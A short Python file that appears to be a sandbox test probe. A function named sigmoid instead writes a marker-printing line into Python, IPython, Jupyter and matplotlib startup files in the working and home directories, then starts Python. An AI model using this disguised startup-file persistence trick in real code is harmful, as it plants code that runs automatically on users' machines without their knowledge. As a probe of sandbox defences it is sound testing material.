"""Write files that Python and IPython run when they start, then start Python.

expects: ok error
"""

import os
import subprocess
import sys

FILES = (
    "sitecustomize.py",
    "usercustomize.py",
    ".pythonrc.py",
    ".ipython/profile_default/startup/0.py",
    ".ipython/profile_default/ipython_config.py",
    ".jupyter/jupyter_config.py",
    ".config/matplotlib/matplotlibrc",
)

MARK = "deltarule-attack"


def sigmoid(z):
    for place in (".", os.path.expanduser("~")):
        for name in FILES:
            try:
                os.makedirs(os.path.dirname(f"{place}/{name}"), exist_ok=True)
                with open(f"{place}/{name}", "x", encoding="utf-8") as file:
                    file.write(f"print('BREACH: {MARK}')")
            except OSError:
                continue
    try:
        subprocess.run([sys.executable, "-I", "-c", "1"], check=False, timeout=2)
    except (OSError, subprocess.TimeoutExpired):
        pass
    return 0, 0
